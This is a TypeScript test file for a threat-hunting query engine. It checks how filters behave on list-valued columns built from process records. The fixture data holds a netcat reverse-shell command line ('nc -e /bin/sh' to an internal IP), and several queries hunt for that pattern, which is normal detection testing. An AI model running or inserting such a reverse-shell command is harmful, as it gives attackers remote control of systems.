import { describe, expect, test } from 'vitest';
import { runHunt } from '../../../src/hunt/index.js';
import { doubleFork } from './store.js';

const { port } = doubleFork();
const found = (text: string): unknown => {
  const { rows, diagnostics } = runHunt(port, { text, limit: 10 });
  return [rows, diagnostics.map(({ code }) => code)];
};

// test/clickhouse/hunts.ts has more of them, for both engines.
describe('a test of a column that holds a list holds if any of its items passes', () => {
  test.each([
    ['processes where process.pid > 0 | stats values(process.name) as names by host.id | filter names == "nc"', [['web', ['systemd', 'sshd', 'bash', 'nc', 'python3']]]],
    ['processes where process.pid > 0 | stats values(process.name) as names by host.id | filter names != "nc"', []],
    ['processes where process.pid > 0 | stats values(process.name) as names by host.id | filter length(names) == 5', [['web', ['systemd', 'sshd', 'bash', 'nc', 'python3']]]],
    ['processes where process.name == "nc" | fields process.args as line | filter line == "-e"', [[['nc', '-e', '/bin/sh', '10.0.0.5']]]],
    ['processes where process.name == "nc" | fields process.args as line | filter line == "-x" or length(line) < 4', []],
  ])('%s', (text, expected) => {
    expect(found(text)).toEqual([expected, []]);
  });

  test('values of nothing are absent, as an empty list is', () => {
    expect(found('processes where process.name == "nc" | stats values(verdict) as words by host.id | filter words == null and not words != "x"')).toEqual([[['web', null]], []]);
  });

  test('a let takes such a column as its argument, also where a column has the name of its parameter', () => {
    expect(found('let many(n) = length(n) > 3\nprocesses where process.pid > 0 | stats values(process.name) as names, count() as n by host.id | filter many(names) and n > 1 | head 1')).toEqual([[['web', ['systemd', 'sshd', 'bash', 'nc', 'python3'], expect.any(Number)]], []]);
  });
});
